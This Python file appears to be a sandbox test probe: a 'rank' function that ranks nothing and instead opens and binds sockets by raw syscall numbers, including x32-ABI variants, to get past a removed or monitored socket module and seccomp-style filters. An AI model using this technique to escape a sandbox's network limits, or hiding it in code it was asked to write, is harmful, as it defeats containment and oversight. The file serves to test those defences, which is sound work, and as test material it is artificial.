"""Opens and binds sockets by the numbers of the calls, those of the x32 interface included, where the module socket
was taken away or watched.

Against: rank_by_expensive_score
Harm: opens a server
Merits: nothing
Answer: failed or crashed
"""

import ctypes
import errno
import os


def through(what):
    """Say what succeeded although it must not."""
    print("GOT" + " THROUGH: " + what, flush=True)


def syscall(name, *args):
    """A system call by its number, past the C library's wrapper: (result, errno)."""
    if name not in NUMBERS:
        return -1, errno.ENOSYS
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    words = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    return libc.syscall(ctypes.c_long(NUMBERS[name]), *words), ctypes.get_errno()


NUMBERS = {
    "x86_64": {
        "socket": 41,
        "bind": 49,
        "listen": 50,
        "connect": 42,
        "x32 socket": 41 | 1 << 30,
        "x32 bind": 49 | 1 << 30,
    },
    "aarch64": {"socket": 198, "bind": 200, "listen": 201, "connect": 203},
}.get(os.uname().machine, {})
ANY_PORT_OF_LOOPBACK = b"\x02\0\0\0\x7f\0\0\x01" + bytes(8)


def attack():
    """Bind a socket of either interface."""
    for name in ("", "x32 "):
        for kind in (1, 2):
            fd, _ = syscall(f"{name}socket", 2, kind, 0)
            if fd >= 0:
                if syscall(f"{name}bind", fd, ANY_PORT_OF_LOOPBACK, 16)[0] == 0:
                    through(f"bound a socket by {name}number")
                os.close(fd)


def rank(items, score):
    """Attack, and rank nothing."""
    attack()
    raise RuntimeError("nothing was gained")
